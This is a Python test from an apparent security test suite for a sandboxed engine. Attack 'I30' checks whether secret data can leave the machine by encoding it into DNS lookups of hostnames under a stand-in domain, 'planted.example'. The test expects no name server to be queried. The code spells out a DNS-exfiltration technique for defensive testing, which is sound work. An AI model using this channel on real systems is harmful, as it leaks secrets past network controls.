"""I30: a name is a message."""

from __future__ import annotations

import os

from tests.attacks.inside import asks
from tests.attacks.inside.taken import taken
from tests.attacks.inside.verdicts import held_or_shown
from tests.attacks.registry import GRANTS, Seen, attack
from tests.attacks.stage import Stage


@attack("I30", "engine has names looked up that hold what it stole", promise=GRANTS, expected="no name server is asked")
def names(stage: Stage) -> Seen:
    """The look-up itself leaves the machine, whatever becomes of the connection. As root the kit is the name server."""
    one = taken(stage)
    secret = os.urandom(6).hex()
    hosts = [f"{secret}{number}.planted.example" for number in range(4)]
    wanted = [asks.place(f"name{number}", 443, host, local=bool(number % 2), scheme="https") for number, host in enumerate(hosts)]
    one.run(asks.declares, wanted=wanted, before=[("dial", {"account": hosts[0]}), ("number_after", {"number": hosts[0]})], wait_s=90)
    asked = [name for name in (one.resolver.asked if one.resolver is not None else []) if secret in name]
    asked += [str(each.get("name")) for each in one.view().get("names", ()) if secret in str(each.get("name")) and one.resolver is None]
    return held_or_shown(sorted(set(asked)), {"the keeper's log": secret in one.log()})
